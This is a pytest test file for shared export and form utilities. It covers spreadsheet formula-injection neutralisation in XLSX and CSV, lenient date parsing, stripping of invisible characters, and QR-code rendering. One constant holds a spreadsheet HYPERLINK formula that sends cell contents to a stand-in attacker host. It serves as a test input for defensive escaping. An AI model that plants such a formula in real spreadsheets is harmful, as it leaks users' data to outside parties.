"""The shared spreadsheet writer, date field, text hygiene and PDF renderer."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from common.forms import LenientDateField, parse_date
from common.spreadsheets import Sheet, csv_bytes, neutralise, xlsx_bytes
from common.text import clean_line, strip_invisible

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'


@pytest.mark.parametrize("text", [EVIL, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_prefixes_are_neutralised(text):
    assert neutralise(text) == "'" + text


def test_numbers_dates_and_plain_text_stay_typed():
    assert neutralise(-5) == -5
    assert neutralise(dt.date(2026, 12, 2)) == dt.date(2026, 12, 2)
    assert neutralise("某某物业") == "某某物业"
    assert neutralise(None) == ""


def test_xlsx_has_no_formula_cell():
    data = xlsx_bytes(Sheet("导出", ["名称", "分数"], [[EVIL, 3], ["正常", -1]], preface=["标题"]))
    ws = load_workbook(io.BytesIO(data)).active
    values = [c.value for row in ws.iter_rows() for c in row]
    assert "'" + EVIL in values
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)
    assert -1 in values


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gbk"])
def test_csv_neutralised_in_both_encodings(encoding):
    data = csv_bytes(["名称"], [[EVIL], ["@x"]], encoding=encoding)
    rows = list(csv.reader(io.StringIO(data.decode(encoding))))
    assert rows == [["名称"], ["'" + EVIL], ["'@x"]]


@pytest.mark.parametrize("typed", ["2026-12-02", "2026/12/02", "2026/12/2", "2026年12月2日",
                                   "2026.12.02", "20261202", " 2026-12-02 "])
def test_date_forms_users_type(typed):
    assert parse_date(typed) == dt.date(2026, 12, 2)
    assert LenientDateField().clean(typed) == dt.date(2026, 12, 2)


@pytest.mark.parametrize("typed", ["2026-02-30", "02/12/2026", "明天", "2026-13-01"])
def test_impossible_dates_are_refused_not_crashing(typed):
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        LenientDateField().clean(typed)


def test_implausible_year_refused():
    from django.core.exceptions import ValidationError

    with pytest.raises(ValidationError):
        LenientDateField().clean("0001-01-01")


def test_invisible_and_bidi_controls_stripped():
    assert strip_invisible("某\u202e物\u200b业") == "某物业"
    assert clean_line(" 91350100M000100Y43\u200b\n") == "91350100M000100Y43"


def test_pdf_renderer_draws_the_qr_code(settings, tmp_path):
    from common.pdf import qr_svg

    svg = qr_svg("https://credit.example.gov.cn/public/verify/abc")
    assert svg.startswith("<svg") and "path" in svg
